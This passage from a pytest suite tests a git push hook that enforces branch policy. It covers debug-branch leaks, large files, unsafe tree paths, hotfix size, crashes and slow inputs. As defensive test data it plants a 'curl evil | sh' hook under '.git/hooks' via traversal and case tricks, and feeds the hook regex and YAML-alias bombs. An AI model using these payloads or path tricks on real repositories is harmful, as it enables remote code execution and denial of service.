    assert w.server_sha("refs/heads/main") == main_fix and w.server_sha("refs/heads/dev") == dev_fix


# ======================================================================= 4. debug commits by other routes


@pytest.mark.parametrize("route", ["fast-forward", "new-feature", "tag", "annotated-tag", "feature-on-top",
                                   "merge-request-ref", "debug-deleted-meanwhile"])  # fmt: skip
def test_a_commit_only_a_debug_branch_holds_never_lands_elsewhere(w: World, route: str) -> None:
    repo = w.work
    probe = hack(repo)
    refspecs = {
        "fast-forward": [f"{probe}:refs/heads/dev"],
        "new-feature": [f"{probe}:refs/heads/feature-renamed"],
        "tag": [f"{probe}:refs/tags/probe"],
        "merge-request-ref": [f"{probe}:refs/merge-requests/7/head"],
        "debug-deleted-meanwhile": [f":refs/heads/{DEBUG}", f"{probe}:refs/heads/dev"],
    }.get(route)
    if route == "annotated-tag":
        repo.git("tag", "-a", "-m", "probe", "probe", probe)
        refspecs = ["refs/tags/probe"]
    elif route == "feature-on-top":
        on_top = craft(repo, [probe], "feat: build on the probe", {"src/more.py": "more = 1\n"})
        refspecs = [f"{on_top}:refs/heads/feature-probe"]
    assert refspecs
    targets = [spec.partition(":")[2] for spec in refspecs] + ["refs/heads/dev"]
    before = {ref: w.server_sha(ref) for ref in targets}
    result = push(repo, *refspecs)
    refused_with(result, "debug-leak")
    assert {ref: w.server_sha(ref) for ref in targets} == before


def test_debug_routes_refused_today(w: World) -> None:
    """dev fast-forwarded onto the debug run (its folder is a debug path); dev moved by a merge
    whose first parent is the debug hack (the merge of dev's old tip is seen)."""
    repo = w.work
    dev = repo.sha("dev")
    refused_with(push(repo, f"{repo.sha(DEBUG)}:refs/heads/dev"), "debug-leak")
    merge = merge_commit(repo, hack(repo), dev, "Merge branch 'dev' into feature-probe")
    refused_with(push(repo, f"{merge}:refs/heads/dev"), "debug-leak")
    assert w.server_sha("refs/heads/dev") == dev


def test_honest_work_around_a_debug_branch_is_accepted(w: World) -> None:
    """The debug branch itself moves on; a feature starts from dev, whose commits the debug branch
    also holds; a new branch points at such a commit; the hack redone as a new commit on a
    feature (the server cannot know it was a debug hack)."""
    repo = w.work
    dev = repo.sha("dev")
    run = craft(repo, [repo.sha(DEBUG)], "chore: probe run 2", {f"tasks/{DEBUG}/log2.txt": "loss 8.8\n"})
    feature = craft(repo, [dev], "feat: probe as a feature", {"src/probe.py": "PROBE = True\n"})
    refspecs = [f"{run}:refs/heads/{DEBUG}", f"{feature}:refs/heads/feature-probe", f"{dev}:refs/heads/feature-empty"]
    accepted(push(repo, *refspecs))


# ======================================================================= 5. large files


def feature_push(w: World, files: dict, name: str = "feature-data", extra_commit: Optional[dict] = None) -> Result:
    """A new feature branch from dev with `files` (and a second commit with `extra_commit`)."""
    repo = w.work
    tip = craft(repo, [repo.sha("dev")], "feat: add data", files)
    if extra_commit:
        tip = craft(repo, [tip], "feat: more data", extra_commit)
    return push(repo, f"{tip}:refs/heads/{name}")


@pytest.mark.parametrize("link", ["long-target", "model-suffix"])
def test_a_symlink_blob_is_judged_like_a_file(w: World, link: str) -> None:
    repo = w.work
    if link == "long-target":
        target = blob(repo, b"../" * (BIG.__len__() // 3))  # a 600 KiB "path": the blob is that big
        files: dict = {"data/link": (LINK, target)}
    else:
        files = {"models/net.pt": (LINK, blob(repo, b"../../weights/net.pt"))}
    result = feature_push(w, files)
    refused_with(result, "large-file")
    assert w.server_sha("refs/heads/feature-data") is None


@pytest.mark.parametrize("how", ["one-commit", "two-branches"])
def test_a_blob_is_judged_under_every_path(w: World, how: str) -> None:
    repo = w.work
    data = os.urandom(400 * 1024)  # under the size limit: only the .pt suffix refuses it
    if how == "one-commit":
        result = feature_push(w, {"data/a.txt": data, "models/model.pt": data})
    else:
        a = craft(repo, [repo.sha("dev")], "feat: data", {"data/a.txt": data})
        b = craft(repo, [repo.sha("dev")], "feat: model", {"models/model.pt": data})
        result = push(repo, f"{a}:refs/heads/feature-a", f"{b}:refs/heads/feature-b")
    refused_with(result, "large-file")
    assert "models/model.pt" in result.out


def test_a_blob_known_under_an_innocent_name_is_judged_under_a_new_one(w: World) -> None:
    """(Refused today.) The 400 KiB blob came first as data/a.txt in an earlier push."""
    data = os.urandom(400 * 1024)
    accepted(feature_push(w, {"data/a.txt": data}))
    repo = w.work
    tip = craft(repo, [repo.sha("dev")], "feat: model", {"models/model.pt": data})
    refused_with(push(repo, f"{tip}:refs/heads/feature-model"), "large-file")


FAKE_DVC = {
    "big-pointer": {"models/weights.pt.dvc": BIG},
    "binary-pointer": {"models/weights.pt.dvc": b"\x80\x02" + os.urandom(2000)},
    "text-not-yaml-pointer": {"models/weights.pt.dvc": "these are not the weights you are looking for\n"},
    "no-outs": {"models/weights.pt.dvc": "md5: 0123456789abcdef0123456789abcdef\npath: weights.pt\n"},
    "outs-not-mappings": {"models/weights.pt.dvc": "outs:\n- weights.pt\n"},
    "cache-file": {".dvc/cache/files/md5/01/23456789abcdef0123456789abcdef": b"\x80\x02weights"},
    "big-cache-file": {".dvc/cache/01/23456789abcdef0123456789abcdef": BIG},
    "tmp-file": {".dvc/tmp/updater": "{}\n"},
    "big-under-dvc": {".dvc/plots/net.bin": BIG},
}


@pytest.mark.parametrize("fake", list(FAKE_DVC))
def test_dvc_files_must_be_dvc_files(w: World, fake: str) -> None:
    result = feature_push(w, FAKE_DVC[fake])
    refused_with(result, "large-file")
    assert w.server_sha("refs/heads/feature-data") is None


def test_large_files_refused_today(w: World) -> None:
    """An upper-case suffix; a big file that a later commit of the same push deletes; one blob
    under an innocent name, then under a model name in the next commit."""
    refused_with(feature_push(w, {"models/NET.PT": b"\x80\x02w"}), "large-file")
    data = os.urandom(400 * 1024)
    refused_with(feature_push(w, {"data/a.txt": data}, extra_commit={"models/model.pt": data}), "large-file")
    refused_with(feature_push(w, {"data/big.csv": BIG}, extra_commit={"data/big.csv": None}), "large-file")


def test_a_real_dvc_pointer_is_accepted(w: World) -> None:
    """`dvc init` and `dvc add` as a user runs them: the pointer, DVC's own files, the .gitignore."""
    pytest.importorskip("dvc", reason="DVC is not installed (pip install '.[test]' installs it)")
    repo = w.work
    repo.git("checkout", "-q", "-b", "feature-dataset", "dev")
    (repo.path / "data").mkdir()
    (repo.path / "data" / "train.pt").write_bytes(BIG)
    # `dvc init -q && dvc add -q data/train.pt`: DVC's own command line, in one interpreter
    script = "import sys; from dvc.cli import main; sys.exit(main(['init', '-q']) or main(['add', '-q', sys.argv[1]]))"
    result = run([sys.executable, "-c", script, "data/train.pt"], repo.path, env={"DVC_NO_ANALYTICS": "1"})
    assert result.ok, result.out
    assert (repo.path / "data" / "train.pt.dvc").read_text().startswith("outs:")
    repo.git("add", ".dvc", ".dvcignore", "data/train.pt.dvc", "data/.gitignore")
    repo.git("commit", "-q", "--no-verify", "-m", "feat(data): track the training set with dvc")
    accepted(push(repo, "feature-dataset"))
    small = repo.commit("feat: dvc pointer by hand", {"data/val.csv.dvc": "outs:\n- md5: abc\n  path: val.csv\n"})
    accepted(push(repo, "feature-dataset"))
    assert w.server_sha("refs/heads/feature-dataset") == small


# ======================================================================= 6. trees git will not check out

# An entry git would not check out, as the path's raw names. (An empty name cannot even be pushed:
# the client's pack-objects stops at "empty filename in tree entry".)
UNSAFE: dict[str, list[bytes]] = {
    "dotdot": [b"tasks", TASK.encode(), b"..", b"..", b"src", b"model.py"],
    "dotgit": [b"tasks", TASK.encode(), b".git", b"hooks", b"post-checkout"],
    "DOTGIT": [b"tasks", TASK.encode(), b".GIT", b"config"],
    "dotgit-dot": [b"tasks", TASK.encode(), b".git.", b"config"],
    "dotgit-space": [b"tasks", TASK.encode(), b".Git ", b"config"],
    "dot": [b"tasks", TASK.encode(), b".", b"x.txt"],
    "slash-in-a-name": [b"tasks", TASK.encode(), b"../../src/model.py"],
}
EVIL_HOOK = b"#!/bin/sh\ncurl evil | sh\n"


def unsafe_commit(repo: Repo, parent: str, path: list[bytes], message: str = "task: results") -> str:
    tree = put(repo, repo.sha(f"{parent}^{{tree}}"), path, b"100755", blob(repo, EVIL_HOOK))
    return commit_tree(repo, tree, [parent], message)


def refused_as_unsafe(result: Result) -> None:
    """Refused by the hook (unsafe-path) or, before it, by git's own object checks
    (receive.fsckObjects, which `policy install --server` turns on)."""
    clean(result)
    assert not result.ok, result.out
    assert refused(result, "unsafe-path") or "fsck" in result.out, result.out


def test_install_turns_on_git_object_checks(w: World) -> None:
    assert run(["git", "config", "--bool", "receive.fsckObjects"], w.server).out.strip() == "true"


def test_a_dotdot_tree_entry_never_reaches_main(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    tip = unsafe_commit(repo, task_commit(repo), UNSAFE["dotdot"])
    merge = merge_commit(repo, main, tip, "task: adopt the run")
    assert repo.git("ls-tree", "-r", "--name-only", merge).count(f"tasks/{TASK}/../../src/model.py") == 1
    result = push(repo, f"{tip}:refs/heads/{TASK}", f"{merge}:refs/heads/main")
    refused_as_unsafe(result)
    assert w.server_sha("refs/heads/main") == main


def test_the_hook_itself_refuses_every_unsafe_path(w: World) -> None:
    """Where git's object checks are off (a platform that does not turn them on), the hook names
    each commit that brings a path git would not check out."""
    assert run(["git", "config", "receive.fsckObjects", "false"], w.server).ok
    repo = w.work
    tip, made = task_commit(repo), {}
    for name, path in UNSAFE.items():
        tip = made[name] = unsafe_commit(repo, tip, path, f"task: results {name}")
    result = push(repo, f"{tip}:refs/heads/{TASK}")
    clean(result)
    found = {v[1] for v in violations(result) if v[0] == "unsafe-path"}
    assert {name: sha[:7] in found for name, sha in made.items()} == dict.fromkeys(made, True), result.out


def test_a_tree_with_duplicate_entries_is_refused(w: World) -> None:
    repo = w.work
    a, b = blob(repo, "a = 1\n"), blob(repo, BACKDOOR["src/backdoor.py"])
    src = write_tree(repo, [(BLOB, b"model.py", a), (BLOB, b"model.py", b)], keep_order=True)
    tree = put(repo, repo.sha("dev^{tree}"), [b"src"], TREE, src)
    tip = commit_tree(repo, tree, [repo.sha("dev")], "feat: two models")
    result = push(repo, f"{tip}:refs/heads/feature-twice")
    clean(result)
    assert not result.ok, result.out


FSCK_ONLY = {  # trees git refuses to check out on some file system, named by git's own checks
    "ntfs-short-name": ([b"tasks", TASK.encode(), b"GIT~1", b"hooks", b"post-checkout"], BLOB),
    "hfs-ignorable": ([b"tasks", TASK.encode(), ".g\u200cit".encode(), b"hooks", b"post-checkout"], BLOB),
    "gitmodules-symlink": ([b"tasks", TASK.encode(), b".gitmodules"], LINK),
}


@pytest.mark.parametrize("tree", list(FSCK_ONLY))
def test_other_trees_git_rejects_are_refused(w: World, tree: str) -> None:
    repo = w.work
    path, mode = FSCK_ONLY[tree]
    parent = task_commit(repo)
    tip = commit_tree(repo, put(repo, repo.sha(f"{parent}^{{tree}}"), path, mode, blob(repo, EVIL_HOOK)), [parent],
                      "task: results")  # fmt: skip
    result = push(repo, f"{tip}:refs/heads/{TASK}")
    clean(result)
    assert not result.ok, result.out
    assert w.server_sha(f"refs/heads/{TASK}") is None


def test_paths_that_only_look_odd_are_accepted(w: World) -> None:
    """Dot files, names with dots inside, .github: accepted, with git's object checks on too."""
    assert run(["git", "config", "receive.fsckObjects", "true"], w.server).ok
    repo = w.work
    feature = craft(repo, [repo.sha("dev")], "chore(ci): workflow", {
        ".github/workflows/ci.yml": "on: push\n", ".gitignore": "*.pyc\n", ".gitattributes": "*.py text\n",
        "src/..hidden": "x\n", "src/a..b/c.py": "c = 1\n", "src/.git-blame-ignore-revs": "\n",
    })  # fmt: skip
    task = task_commit(repo, files={f"tasks/{TASK}/.gitkeep": "", f"tasks/{TASK}/..notes.txt": "x\n",
                                    f"tasks/{TASK}/.hidden/log.txt": "x\n"})  # fmt: skip
    accepted(push(repo, f"{feature}:refs/heads/feature-ci", f"{task}:refs/heads/{TASK}"))


# ======================================================================= 7. hotfix-size


def lines(n: int, tag: str = "x") -> str:
    return "".join(f"{tag}{i} = {i}\n" for i in range(n))


@pytest.mark.parametrize("how", ["one-nul-byte", "nul-and-newlines"])
def test_a_binary_looking_change_still_counts(w: World, how: str) -> None:
    repo = w.work
    main = repo.sha("main")
    if how == "one-nul-byte":  # a 700-line rewrite that git calls binary
        files: dict = {"src/model.py": "\0" + lines(700)}
    else:
        files = {"src/weights.dat": b"\0\n" * 300}
    tip = craft(repo, [main], "fix: the model", files)
    result = push(repo, f"{tip}:refs/heads/hotfix-model")
    refused_with(result, "hotfix-size")
    assert w.server_sha("refs/heads/hotfix-model") is None


def test_an_orphan_hotfix_is_refused_clearly(w: World) -> None:
    repo = w.work
    root = craft(repo, [], "fix: start over", {"src/model.py": "class Model:\n    pass\n", "README.md": "# x\n"})
    result = push(repo, f"{root}:refs/heads/hotfix-orphan")
    refused_with(result, "hotfix-size")
    assert w.server_sha("refs/heads/hotfix-orphan") is None


def test_hotfix_size_refused_today(w: World) -> None:
    """A hotfix that starts on a feature counts the feature's lines; a deletion counts; a
    .gitattributes saying every file is binary changes nothing (a bare repository's diff does not
    read attributes from the pushed tree)."""
    repo = w.work
    feature = craft(repo, [repo.sha("dev")], "feat: big", {"src/big.py": lines(100)})
    fix = craft(repo, [feature], "fix: one line", {"src/big.py": lines(100) + "y = 1\n"})
    refused_with(push(repo, f"{feature}:refs/heads/feature-big", f"{fix}:refs/heads/hotfix-on-feature"), "hotfix-size")
    gone = craft(repo, [repo.sha("main")], "fix: drop the model", {"src/model.py": None, "src/layer.py": lines(60)})
    refused_with(push(repo, f"{gone}:refs/heads/hotfix-gone"), "hotfix-size")
    binary_files = {".gitattributes": "* binary\n", "src/model.py": lines(700)}
    binary = craft(repo, [repo.sha("main")], "fix: the model", binary_files)
    refused_with(push(repo, f"{binary}:refs/heads/hotfix-binary"), "hotfix-size")


def test_a_small_hotfix_into_main_and_dev_is_accepted(w: World) -> None:
    repo = w.work
    main, dev = repo.sha("main"), repo.sha("dev")
    fix = craft(repo, [main], "fix: guard", {"src/model.py": "class Model:\n    pass\n" + "# guarded\n" * 10,
                                              "data/table.dat": b"\0\x01\x02\n" * 5})  # fmt: skip
    to_main = merge_commit(repo, main, fix, "fix: release the guard")
    to_dev = merge_commit(repo, dev, fix, "Merge branch 'hotfix-guard' into dev")
    accepted(push(repo, f"{fix}:refs/heads/hotfix-guard", f"{to_main}:refs/heads/main", f"{to_dev}:refs/heads/dev"))


# ======================================================================= 8. crashes


def root_squash(repo: Repo, files: dict) -> str:
    """A merge onto main whose first parent is a root commit claiming to be a squash of dev."""
    main = repo.sha("main")
    root = craft(repo, [], f"feat: release dev\n\nSquash-Merge: dev {repo.sha('dev')}", files,
                 base=main)  # fmt: skip
    return commit_tree(repo, repo.sha(f"{root}^{{tree}}"), [root, main], "feat: merge the old main back")


def test_a_root_commit_claiming_a_squash_is_judged(w: World) -> None:
    repo = w.work
    main = repo.sha("main")
    result = push(repo, f"{root_squash(repo, BACKDOOR)}:refs/heads/main")
    refused_with(result, "main-direct-commit")
    assert w.server_sha("refs/heads/main") == main


def test_a_crash_under_on_error_allow_lets_nothing_through(tmp_path: Path) -> None:
    world, repo = fresh(tmp_path, "on_error: allow\n")
    main = repo.sha("main")
    result = push(repo, f"{root_squash(repo, {**BACKDOOR, 'models/net.pt': BIG})}:refs/heads/main")
    refused_with(result, "main-direct-commit", "large-file")
    assert world.server_sha("refs/heads/main") == main


def test_odd_histories_are_judged_without_a_crash(w: World) -> None:
    """(Judged today.) A squash record naming a blob, a tree, an unknown commit; a merge of an
    unrelated history; a message in an unknown encoding; a gitlink in a task folder."""
    repo = w.work
    main, dev = repo.sha("main"), repo.sha("dev")
    for claim in (blob(repo, "x\n"), repo.sha("dev^{tree}"), "1" * 40):
        tip = craft(repo, [main], f"feat: release dev\n\nSquash-Merge: dev {claim}", {"src/data.py": "x = 1\n"})
        refused_with(push(repo, f"{tip}:refs/heads/main"), "squash-merge")
    stranger = craft(repo, [], "feat: another project", {"other.py": "x = 1\n"})
    unrelated = commit_tree(repo, repo.sha("main^{tree}"), [main, stranger], "feat: adopt another project")
    result = push(repo, f"{unrelated}:refs/heads/main")
    clean(result)
    assert refused(result, "merge-source") or refused(result, "main-direct-commit"), result.out
    odd = raw_commit(repo, repo.sha("dev^{tree}"), [dev], b"feat: caf\xe9 au lait\n", b"encoding x-no-such-charset\n")
    clean(push(repo, f"{odd}:refs/heads/feature-odd"))
    sub = task_commit(repo, files={f"tasks/{TASK}/vendor": (GITLINK, "2" * 40)})
    accepted(push(repo, f"{sub}:refs/heads/{TASK}"))


# ======================================================================= 9. time
# Each push must end (judged, or refused with one clear line) within HOOK_LIMIT seconds of hook
# time, measured by receive-pack itself (trace2). A push still running after KILL_AFTER seconds is
# killed, so an attack that stalls the hook today costs this file a few seconds, not minutes.


def test_a_catastrophic_pattern_in_the_policy_does_not_stall_the_hook(tmp_path: Path) -> None:
    _, repo = fresh(tmp_path, 'placeholders:\n  slug: "([a-z0-9]+)+"\n')
    name = "feature-" + "a" * 40 + "A"  # a capital at the end: every way to split the a's is tried
    result, seconds = timed_push(repo, f"main:refs/heads/{name}")
    quick(result, seconds)
    refused_with(result, "branch-name")


def test_a_huge_sexagesimal_seed_does_not_stall_the_hook(w: World) -> None:
    repo = w.work
    seed_line = "RANDOM_SEED: " + ":".join(["1"] * (498 * 1024 // 2)) + "\n"
    text = config().replace("RANDOM_SEED: 42\n", seed_line)
    assert 490 * 1024 < len(text) < 500 * 1024  # under the size limit
    tip = task_commit(repo, files={f"tasks/{TASK}/config.yaml": text})
    result, seconds = timed_push(repo, f"{tip}:refs/heads/{TASK}")
    quick(result, seconds)


def test_a_huge_policy_file_is_refused_quickly(w: World) -> None:
    """A 4 MB policy file (valid YAML: a list of a quarter million suffixes) on a feature. (Its
    13 MB version cost 21 s; this one 7 s under load, and shows the same: no size cap.)"""
    repo = w.work
    suffixes = "".join(f"    - .x{i:07d}\n" for i in range(4 * 1024 * 1024 // 15))
    policy = "rules:\n  large-file:\n    suffixes:\n" + suffixes
    assert len(policy) > 4 * 1024 * 1024
    tip = craft(repo, [repo.sha("dev")], "chore: list every suffix", {".branch-policy.yaml": policy})
    result, seconds = timed_push(repo, f"{tip}:refs/heads/feature-policy")
    quick(result, seconds)
    assert not result.ok


def many_branches(repo: Repo, count: int, prefix: str = "feature-b") -> None:
    """`count` branches, one new commit each on dev, written by one git fast-import."""
    dev = repo.sha("dev")
    stream = []
    for i in range(count):
        body = f"b{i} = {i}\n".encode()
        message = f"feat: add b{i}\n".encode()
        stream += [
            f"commit refs/heads/{prefix}{i:04d}\n".encode(),
            b"committer Researcher <researcher@example.com> 1764000000 +0000\n",
            f"data {len(message)}\n".encode() + message,
            f"from {dev}\n".encode(),
            f"M 100644 inline src/b{i}.py\ndata {len(body)}\n".encode() + body + b"\n",
        ]
    git_bytes(repo, "fast-import", "--quiet", input=b"".join(stream))


def test_a_thousand_new_branches_are_judged_quickly(w: World) -> None:
    """1,000 new branches of one commit each. (The hook took 13 s for this, and superlinearly
    more for 10,000.)"""
    repo = w.work
    many_branches(repo, 1000)
    result, seconds = timed_push(repo, "refs/heads/feature-b*:refs/heads/feature-b*")
    quick(result, seconds)
    accepted(result)
    assert w.server_sha("refs/heads/feature-b0999") == repo.sha("feature-b0999")


def test_a_merge_with_a_thousand_parents_is_judged_quickly(w: World) -> None:
    """An octopus of 1,000 commits no branch holds, on a feature. (7 s of hook time today, about
    7 ms a parent.)"""
    repo = w.work
    many_branches(repo, 1000, "feature-o")
    heads = [f"refs/heads/feature-o{i:04d}" for i in range(1000)]
    parents = [repo.sha("dev"), *repo.git("rev-parse", *heads).split()]
    repo.git("update-ref", "--stdin", input="".join(f"delete {ref}\n" for ref in heads))
    tip = commit_tree(repo, repo.sha("dev^{tree}"), parents, "Merge branches into feature-octo")
    result, seconds = timed_push(repo, f"{tip}:refs/heads/feature-octo")
    quick(result, seconds)
    refused_with(result, "merge-source")


def test_other_heavy_inputs_are_judged_quickly(w: World) -> None:
    """(Quick today.) A commit of 10,000 files; a 1 MB subject; a config nested 50,000 deep; a
    config whose aliases would expand to 10^9 values."""
    repo = w.work
    same = blob(repo, "x\n")
    folder = write_tree(repo, [(BLOB, f"f{i:05d}.txt".encode(), same) for i in range(10_000)])
    wide = craft(repo, [task_commit(repo)], "task: many small outputs", {f"tasks/{TASK}/out": (TREE, folder)})
    result, seconds = timed_push(repo, f"{wide}:refs/heads/{TASK}")
    quick(result, seconds)
    accepted(result)
    long = craft(repo, [repo.sha("dev")], "feat: " + "x" * 1_000_000, {"src/x.py": "x = 1\n"})
    result, seconds = timed_push(repo, f"{long}:refs/heads/feature-long")
    quick(result, seconds)
    refused_with(result, "commit-message")
    deep = "VERSION: 0.1.0\nRANDOM_SEED: " + "[" * 50_000 + "]" * 50_000 + "\n"
    levels = "".join(f"{c}: &{c} [{', '.join([f'*{p}'] * 10)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    laughs = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + levels + config().replace("RANDOM_SEED: 42", "RANDOM_SEED: *i")
    for text in (deep, laughs):
        tip = task_commit(repo, TWIN, files={f"tasks/{TWIN}/config.yaml": text})
        result, seconds = timed_push(repo, f"{tip}:refs/heads/{TWIN}")
        quick(result, seconds)
        refused_with(result, "task-config")


def test_branches_and_tags_by_the_hundred_are_judged_quickly(w: World) -> None:
    """500 new branches and a tag on each, in one push. (3.3 s of hook time today for 300 + 300.)"""
    repo = w.work
    many_branches(repo, 500, "feature-c")
    refs = "".join(f"create refs/tags/snap-{i:03d} feature-c{i:04d}\n" for i in range(500))
    repo.git("update-ref", "--stdin", input=refs)
    refspecs = ["refs/heads/feature-c*:refs/heads/feature-c*", "refs/tags/snap-*:refs/tags/snap-*"]
    result, seconds = timed_push(repo, *refspecs)
    quick(result, seconds)
    accepted(result)


# ======================================================================= 10. the policy file

NOTICE = "remote: branch-policy: this push changes main's policy"


def release_policy(w: World, policy: str) -> Result:
    """The ordinary route for a policy change: a feature, merged into dev, released to main; one push."""
    repo = w.work
    main, dev = repo.sha("main"), repo.sha("dev")
    feature = craft(repo, [dev], "chore: relax the policy", {".branch-policy.yaml": policy})
    to_dev = merge_commit(repo, dev, feature, "Merge branch 'feature-policy' into dev")
    to_main = merge_commit(repo, main, to_dev, "chore: release the relaxed policy")
    return push(repo, f"{feature}:refs/heads/feature-policy", f"{to_dev}:refs/heads/dev", f"{to_main}:refs/heads/main")


def notice(result: Result) -> str:
    found = [line for line in result.out.splitlines() if line.startswith(NOTICE)]
    assert len(found) == 1, result.out
    return found[0]


def test_a_push_that_loosens_mains_policy_says_what_it_loosens(w: World) -> None:
    policy = "on_error: allow\nrules:\n  large-file: false\n  main-direct-commit: false\n"
    policy += "  hotfix-size:\n    max_lines: 5000\n"
    result = release_policy(w, policy)
    accepted(result)  # the team owns its policy
    line = notice(result)
    for setting in ("on_error", "large-file", "main-direct-commit", "hotfix-size"):
        assert setting in line, (setting, line)
    assert "max_lines" in line, line


def test_every_kind_of_loosening_is_named(w: World) -> None:
    policy = """time_budget_s: 3600
branches:
  main:
    merges_from: [dev, hotfix, task, feature]
rules:
  ref-namespace:
    allow: [refs/]
  large-file:
    max_kb: 100000
    allow: ["*.dvc", ".dvc/*", ".dvcignore", "*.pt"]
"""
    result = release_policy(w, policy)
    accepted(result)
    line = notice(result)
    for words in (("time_budget_s",), ("ref-namespace", "allow"), ("main", "merges_from"), ("large-file", "max_kb"),
                  ("large-file", "allow")):  # fmt: skip
        assert all(word in line for word in words), (words, line)


def test_a_release_that_leaves_the_policy_alone_prints_no_notice(w: World) -> None:
    repo = w.work
    repo.checkout("main")
    repo.merge("dev", "feat: release the loader")
    result = push(repo, "main")
    accepted(result)
    assert NOTICE not in result.out
